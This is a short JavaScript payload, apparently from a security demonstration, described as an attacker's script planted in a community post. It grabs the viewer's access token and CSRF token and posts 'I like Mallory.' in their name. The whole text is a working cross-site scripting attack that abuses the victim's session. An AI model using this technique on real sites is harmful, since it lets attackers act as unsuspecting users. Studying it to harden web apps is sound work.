// The attacker's script, run by a post in the community's page: writes in the name of whoever reads.
{
  const keeps = document.body.dataset;
  const ask = async (method, path, headers = {}, body) => {
    const answer = await fetch(path, { method, headers, body });
    return answer.ok ? answer.json() : {};
  };
  const token = async () => (keeps.access === "memory" ? (await ask("POST", "/refresh")).access_token : localStorage.getItem("access"));
  // The page has settled once it says who one is: until then a refresh would race its own.
  new MutationObserver(async (_, observer) => {
    observer.disconnect();
    const headers = { "content-type": "text/plain" };
    if (keeps.csrf !== "nowhere") headers["x-csrf-token"] = (await ask("GET", "/csrf")).csrf_token;
    if (keeps.access !== "cookie") headers.authorization = `Bearer ${await token()}`;
    await ask("POST", "/posts", headers, "I like Mallory.");
  }).observe(document.querySelector("#who"), { childList: true });
}
